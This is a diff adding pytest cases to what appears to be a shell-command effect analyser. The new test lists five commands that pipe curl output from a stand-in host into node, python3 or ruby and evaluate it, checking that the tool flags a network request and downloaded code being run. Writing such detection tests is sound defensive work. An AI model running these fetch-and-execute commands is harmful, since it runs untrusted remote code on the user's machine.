@@ -59,3 +59,20 @@ def test_what_is_started_is_read(code: str) -> None:
 def test_code_from_elsewhere(code: str, expected: list[str]) -> None:
     """Decoded, downloaded and generated text is named for what it is."""
     assert expected == [word for word in deeds(node(code)) if not word.startswith("RunCode system")]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://x.y | node -e 'eval(require(\"fs\").readFileSync(0).toString())'",
+        "curl https://x.y | node -e 'process.stdin.on(\"data\", d => eval(d.toString()))'",
+        "curl https://x.y | python3 -c 'import sys; exec(sys.stdin.read())'",
+        "curl https://x.y | python3 -c 'exec(input())'",
+        "curl https://x.y | ruby -e 'eval(STDIN.read)'",
+    ],
+)
+def test_code_that_flows_in(command: str) -> None:
+    """A script that evaluates what flows in runs what was downloaded."""
+    from support.reading import effects
+
+    assert ["Request x.y", "RunCode download"] == deeds(effects(command))
